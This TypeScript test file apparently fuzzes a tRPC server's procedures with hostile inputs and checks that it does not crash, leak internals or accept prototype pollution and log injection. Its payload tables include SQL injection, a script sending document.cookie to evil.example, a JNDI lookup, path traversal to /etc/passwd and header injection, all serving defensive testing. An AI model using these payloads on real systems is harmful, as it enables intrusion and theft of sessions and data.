import { randomUUID } from "node:crypto";
import { accessTable, appRouter } from "@tessera/api";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openLog } from "../src/log.ts";
import { type Def, filled } from "./support/filled.ts";
import { rawSocket } from "./support/raw-socket.ts";
import { type RunningServer, runningServer } from "./support/running-server.ts";

/** What people who mean harm put where a text is asked for. */
const TEXTS: Record<string, string> = {
  "a quote that ends a statement": "'; DROP TABLE members; --",
  "a condition that always holds": "' OR '1'='1",
  "a union": "x' UNION SELECT token, 1 FROM sessions --",
  "a sleep": "1; SELECT pg_sleep(5)--",
  "an escape in dollars": "$$; TRUNCATE journal; $$",
  "a script": "<script>fetch('//evil.example?'+document.cookie)</script>",
  "an image that fails": '"><img src=x onerror=alert(1)>',
  "an address that runs": "javascript:alert(document.domain)",
  "a template": `{{constructor.constructor("return process")()}} $\{7*7} #{7*7}`,
  "a line of its own": 'x\r\n{"level":60,"msg":"planted"}\n',
  "a header of its own": "x\r\nSet-Cookie: tessera.session_token=planted",
  "letters that move the cursor": "\u001b[2J\u001b[31mroot\u0007",
  "lines that are none to JSON": "a\u2028b\u2029c\u0085d",
  "a NUL": "a\u0000b",
  "half a letter": "a\ud800b",
  "text that runs backwards": "\u202etxt.exe\u202c \u200b\ufeff",
  "a path": "../../../../etc/passwd",
  "a look-up": `$\{jndi:ldap://evil.example/a}`,
  "very many letters": "x".repeat(40_000),
  nothing: "",
};

/** What is sent in place of an input, as it stands on the wire. */
const SHAPES: Record<string, string> = {
  "nothing at all": "null",
  "a list": "[]",
  "a number too large": "1e400",
  "a prototype": '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  "a prototype deep inside":
    '{"set":{"__proto__":{"polluted":true}},"config":{"constructor":{"prototype":{"polluted":true}}}}',
  "a list with a prototype": '[{"__proto__":{"polluted":true}}]',
  "a condition for the database":
    '{"id":{"not":""},"resourceId":{"contains":""},"where":{"OR":[{}]},"select":{"token":true}}',
  "a depth without end": `${"[".repeat(20_000)}${"]".repeat(20_000)}`,
  "a thousand keys": JSON.stringify(
    Object.fromEntries(Array.from({ length: 1_000 }, (_, index) => [`k${index}`, index])),
  ),
};

const INSIDE = /node_modules|prisma|postgres|pglite|syntax error|\bat .+:\d+:\d+|tessera_(app|gate|operator)/i;

const rows = accessTable(appRouter).filter(({ type }) => type !== "subscription");
const procedures = appRouter._def.procedures as unknown as Record<string, { _def: { inputs: { def: Def }[] } }>;

describe("whatever is put into whichever procedure", () => {
  let server: RunningServer;
  const lines: string[] = [];
  const headersOf: Record<string, Record<string, string>> = {};
  beforeAll(async () => {
    server = await runningServer({}, {}, openLog("debug", { write: (line) => void lines.push(line) }));
    headersOf.operator = { cookie: await server.cookieOf("operator@library.example") };
    headersOf.desk = { authorization: `Bearer ${await server.deskToken()}` };
  });
  afterAll(() => server?.stop());

  async function ask(path: string, type: string, body: string, who: string) {
    const isQuery = type === "query";
    const query = isQuery ? `?input=${encodeURIComponent(body).slice(0, 15_000)}` : "";
    const answer = await fetch(`${server.url}/trpc/${path}${query}`, {
      method: isQuery ? "GET" : "POST",
      headers: {
        ...headersOf[who],
        "content-type": "application/json",
        "x-tessera": "1",
        "idempotency-key": randomUUID(),
      },
      ...(isQuery ? {} : { body }),
    });
    return { status: answer.status, type: answer.headers.get("content-type"), body: await answer.text(), answer };
  }

  it.each(rows)("$path answers with a clear word, never with a fault, and shows nothing of its inside", async (row) => {
    const { path, type } = row;
    const [schema] = procedures[path]?._def.inputs ?? [];
    const bodies: [string, string][] = [
      ...Object.entries(SHAPES),
      ...(schema
        ? Object.entries(TEXTS).map(([what, text], pick): [string, string] => [
            what,
            JSON.stringify(filled(schema, text, pick)) ?? "null",
          ])
        : []),
    ];
    for (const who of ["operator", "desk"]) {
      for (const [what, sent] of bodies) {
        const { status, body, type: contentType, answer } = await ask(path, type, sent, who);
        expect({ what, who, isFault: status >= 500, body }).toEqual({ what, who, isFault: false, body });
        // A head that is too long is refused by Node, without a word; of all else no browser shall take it for a page.
        expect(status === 431 ? "application/json" : contentType).toMatch(/^application\/json/);
        expect(answer.headers.getSetCookie()).toEqual([]);
        if (status !== 200) expect(body, what).not.toMatch(INSIDE);
      }
    }
  });

  it("has changed no object of the program by all that, also over a socket", async () => {
    const { say, until, socket } = await rawSocket(server.url, { headers: headersOf.operator ?? {} });
    for (const [id, shape] of Object.values(SHAPES).entries()) {
      if (shape.length > 10_000) continue; // longer than a message may be; that ends the socket
      socket.send(
        `{"id":${id + 1},"method":"query","params":{"path":"flag.explain","input":${shape === "1e400" ? 1 : shape}}}`,
      );
      await until((message) => message.includes(`"id":${id + 1}`));
    }
    say({ id: 100, method: "query", params: { path: "__proto__" } });
    await until((message) => message.includes('"id":100'));
    socket.close();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(([] as unknown as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("keeps what it took as it was sent, to the letter: nothing is run, cut or changed on the way", async () => {
    const staff = await server.signedIn("staff@library.example");
    for (const what of ["a quote that ends a statement", "a script", "an escape in dollars", "a look-up"]) {
      const name = TEXTS[what] ?? "";
      const { pairingCode } = await staff.api.device.invite.mutate({ name });
      expect(await server.stranger().api.device.pair.mutate({ pairingCode })).toMatchObject({ kind: "paired", name });
    }
  });

  it("leaves one line for each entry of the log, each of which can be read, and none that somebody planted", () => {
    for (const line of lines) {
      expect(line.endsWith("\n") && line.indexOf("\n") === line.length - 1).toBe(true);
      for (const unruly of ["\r", "\u0007", "\u001b", "\u0085", "\u2028", "\u2029"]) expect(line).not.toContain(unruly);
      expect(JSON.parse(line).msg).not.toBe("planted");
    }
  });

  it("leaves the server well", async () => {
    const member = await server.signedIn("member@library.example");
    expect((await member.api.resource.list.query()).length).toBeGreaterThan(0);
    expect((await (await server.signedIn("admin@library.example")).api.audit.verify.query()).kind).toBe("intact");
  });
});
